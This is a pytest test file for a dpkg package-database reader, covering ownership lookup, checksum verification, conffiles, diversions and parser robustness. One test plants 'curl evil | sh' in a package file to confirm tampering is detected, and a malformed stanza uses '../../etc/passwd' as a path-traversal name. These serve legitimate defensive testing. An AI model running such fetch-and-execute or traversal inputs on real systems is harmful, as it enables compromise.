"""The dpkg database reader: on this machine's real database, and on small roots built here."""

from __future__ import annotations

import hashlib
import os
import subprocess
import time
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yoroi.errors import PlatformError
from yoroi.platform.fakes.dpkg import FakeDpkgDatabase
from yoroi.platform.linux.dpkg import DpkgDatabase, PackageDatabase, parse_stanza

REAL_STATUS = Path("/var/lib/dpkg/status")
needs_dpkg = pytest.mark.skipif(not REAL_STATUS.exists(), reason="not a dpkg-based system")


def md5(content: bytes) -> str:
    return hashlib.md5(content).hexdigest()


def stanza(name: str, **fields: str) -> str:
    lines = {
        "Package": name,
        "Status": "install ok installed",
        "Architecture": "amd64",
        "Version": "1.0-1",
        "Description": "a test package\n more words\n .",
        **fields,
    }
    return "".join(f"{key.replace('_', '-')}: {value}\n" for key, value in lines.items())


def make_root(
    root: Path,
    contents: Mapping[str, Mapping[str, bytes]],
    *,
    extra_status: str = "",
    diversions: str = "",
) -> DpkgDatabase:
    """A root with a dpkg database recording ``contents`` and those files on disk."""
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    stanzas = [stanza(name) for name in contents]
    (root / "var/lib/dpkg/status").write_text("\n".join([*stanzas, extra_status]))
    (root / "var/lib/dpkg/diversions").write_text(diversions)
    for name, files in contents.items():
        (info / f"{name}.list").write_text("/.\n" + "".join(f"{p}\n" for p in files))
        sums = "".join(f"{md5(c)}  {p.lstrip('/')}\n" for p, c in files.items())
        (info / f"{name}.md5sums").write_text(sums)
        for path, content in files.items():
            target = root / path.lstrip("/")
            if not target.parent.exists():
                target.parent.mkdir(parents=True)
            target.write_bytes(content)
    return DpkgDatabase(root)


HELLO = {
    "hello": {"/usr/bin/hello": b"#!/bin/sh\necho hello\n", "/usr/share/doc/hello/README": b"hi"}
}


@pytest.fixture
def hello(tmp_path: Path) -> DpkgDatabase:
    return make_root(tmp_path, HELLO)


# --- this machine's database ---------------------------------------------------------------


@needs_dpkg
def test_coreutils_owns_and_verifies_ls() -> None:
    db = DpkgDatabase()
    ls = next(p for p in ("/bin/ls", "/usr/bin/ls") if p in db.files("coreutils"))

    assert db.verify(ls) is True
    assert db.owner(ls) == ["coreutils"]
    assert db.owner(os.path.realpath(ls)) == ["coreutils"]  # merged /usr: the other spelling
    assert db.verify(os.path.realpath(ls)) is True
    assert db.md5sums("coreutils")[ls] == md5(Path(ls).read_bytes())


@needs_dpkg
def test_packages_match_dpkg_query_and_parse_fast() -> None:
    started = time.perf_counter()
    db = DpkgDatabase()
    packages = db.packages()
    elapsed = time.perf_counter() - started

    query = ["dpkg-query", "-W", "-f", "${db:Status-Abbrev} ${binary:Package}\n"]
    listed = subprocess.run(query, capture_output=True, text=True, check=True).stdout
    on_disk = {line.split()[-1] for line in listed.splitlines() if line[1] not in "nc"}
    assert set(packages) == on_disk
    assert db.malformed == 0
    assert elapsed < 1.0
    assert packages["coreutils"].installed and packages["coreutils"].version


@needs_dpkg
def test_is_a_package_database() -> None:
    assert isinstance(DpkgDatabase(), PackageDatabase)


# --- roots built here ---------------------------------------------------------------------


def test_intact_file_verifies(hello: DpkgDatabase) -> None:
    assert hello.verify("/usr/bin/hello") is True
    assert hello.owner("/usr/bin/hello") == ["hello"]
    assert hello.files("hello") == ["/.", "/usr/bin/hello", "/usr/share/doc/hello/README"]
    assert hello.packages()["hello"].version == "1.0-1"


def test_modified_file_fails(hello: DpkgDatabase) -> None:
    (hello.root / "usr/bin/hello").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    assert hello.verify("/usr/bin/hello") is False


def test_deleted_file_fails(hello: DpkgDatabase) -> None:
    (hello.root / "usr/bin/hello").unlink()
    assert hello.verify("/usr/bin/hello") is False


def test_file_replaced_by_symlink_fails(hello: DpkgDatabase) -> None:
    target = hello.root / "usr/bin/hello"
    copy = hello.root / "copy"
    copy.write_bytes(target.read_bytes())
    target.unlink()
    target.symlink_to(copy)
    assert hello.verify("/usr/bin/hello") is False


def test_unknown_paths_and_packages(hello: DpkgDatabase) -> None:
    (hello.root / "usr/bin/stray").write_bytes(b"x")
    assert hello.verify("/usr/bin/stray") is None
    assert hello.verify("/usr/bin") is None  # directories carry no checksum
    assert hello.owner("/usr/bin/stray") == []
    assert hello.owner("/.") == ["hello"]
    assert hello.files("nope") == [] and hello.md5sums("nope") == {}


def test_conffiles_come_from_the_status_file(tmp_path: Path) -> None:
    conf = b"setting = 1\n"
    fields = {"Conffiles": f"\n /etc/hello.conf {md5(conf)}\n /etc/old.conf {'0' * 32} obsolete"}
    status = stanza("hello-conf", **fields)
    db = make_root(tmp_path, {}, extra_status=status)
    (tmp_path / "var/lib/dpkg/info/hello-conf.list").write_text("/etc/hello.conf\n")
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/hello.conf").write_bytes(conf)

    (package,) = db.packages().values()
    assert [c.path for c in package.conffiles] == ["/etc/hello.conf", "/etc/old.conf"]
    assert package.conffiles[1].obsolete
    assert db.md5sums("hello-conf") == {"/etc/hello.conf": md5(conf)}
    assert db.verify("/etc/hello.conf") is True
    (tmp_path / "etc/hello.conf").write_bytes(b"setting = 2\n")
    assert db.verify("/etc/hello.conf") is False


def test_malformed_stanzas_are_skipped_and_counted(tmp_path: Path) -> None:
    broken = [
        "Status: install ok installed\nVersion: 1\n",  # no Package
        "Package: nocolon\nthis line has no colon\n",
        "Package: ../../etc/passwd\nStatus: install ok installed\n",
        "Package: badstatus\nStatus: installed\n",
        " continuation first\nPackage: x\n",
    ]
    removed = stanza("gone", Status="deinstall ok config-files")
    db = make_root(tmp_path, HELLO, extra_status="\n".join([*broken, removed]))

    assert list(db.packages()) == ["hello"]
    assert db.malformed == len(broken)
    assert db.verify("/usr/bin/hello") is True


def test_multi_arch_same_packages_are_keyed_with_their_architecture(tmp_path: Path) -> None:
    status = stanza("libfoo", Multi_Arch="same", Source="foo (2.0-1)")
    db = make_root(tmp_path, {}, extra_status=status)
    (tmp_path / "var/lib/dpkg/info/libfoo:amd64.list").write_text("/usr/lib/libfoo.so.1\n")

    (package,) = db.packages().values()
    assert package.key == "libfoo:amd64"
    assert (package.source, package.source_version) == ("foo", "2.0-1")
    assert db.files("libfoo") == db.files("libfoo:amd64") == ["/usr/lib/libfoo.so.1"]
    assert db.owner("/usr/lib/libfoo.so.1") == ["libfoo:amd64"]


def test_merged_usr_spellings(tmp_path: Path) -> None:
    (tmp_path / "usr/bin").mkdir(parents=True)
    (tmp_path / "bin").symlink_to("usr/bin")
    db = make_root(tmp_path, {"tool": {"/bin/tool": b"tool"}})

    assert db.owner("/usr/bin/tool") == db.owner("/bin/tool") == ["tool"]
    assert db.verify("/usr/bin/tool") is True


def test_diversions(tmp_path: Path) -> None:
    theirs, ours = b"original page", b"diverting page"
    contents = {"shell": {"/man/sh.1": theirs}, "dash": {"/man/sh.1": ours}}
    db = make_root(tmp_path, contents, diversions="/man/sh.1\n/man/sh.distrib.1\ndash\n")
    (tmp_path / "man/sh.distrib.1").write_bytes(theirs)
    (tmp_path / "man/sh.1").write_bytes(ours)

    assert db.diversions()["/man/sh.1"].to == "/man/sh.distrib.1"
    assert db.owner("/man/sh.1") == ["dash"]
    assert db.owner("/man/sh.distrib.1") == ["shell"]
    assert db.verify("/man/sh.1") is True
    assert db.verify("/man/sh.distrib.1") is True
    (tmp_path / "man/sh.distrib.1").write_bytes(ours)
    assert db.verify("/man/sh.distrib.1") is False


def test_missing_database_is_a_platform_error(tmp_path: Path) -> None:
    with pytest.raises(PlatformError, match="no dpkg database"):
        DpkgDatabase(tmp_path).packages()


def test_fake_twin_agrees_with_the_reader(tmp_path: Path) -> None:
    real = make_root(tmp_path, HELLO)
    fake = FakeDpkgDatabase.from_contents(HELLO)
    (tmp_path / "usr/bin/hello").write_bytes(b"changed")
    fake.disk["/usr/bin/hello"] = b"changed"

    for path in ["/usr/bin/hello", "/usr/share/doc/hello/README", "/usr/bin/other"]:
        assert (real.owner(path), real.verify(path)) == (fake.owner(path), fake.verify(path))
    assert real.md5sums("hello") == fake.md5sums("hello")


@given(st.text(max_size=300))
def test_stanza_parser_never_raises(text: str) -> None:
    parsed = parse_stanza(text)
    assert parsed is None or parsed.name


STATUS_LINES = [
    "Package: a",
    "Status: install ok installed",
    " x",
    "bad",
    "Conffiles:",
    " /etc/a 0",
    "",
    "Version: 1",
    ":",
    "Multi-Arch: same",
    "Architecture: ../x",
]


@given(st.lists(st.sampled_from(STATUS_LINES), max_size=30))
def test_status_file_reader_never_raises(
    tmp_path_factory: pytest.TempPathFactory, lines: list[str]
) -> None:
    root = tmp_path_factory.mktemp("status")
    (root / "var/lib/dpkg").mkdir(parents=True)
    (root / "var/lib/dpkg/status").write_text("\n".join(lines))
    db = DpkgDatabase(root)
    assert len(db.packages()) + db.malformed <= len(lines) + 1
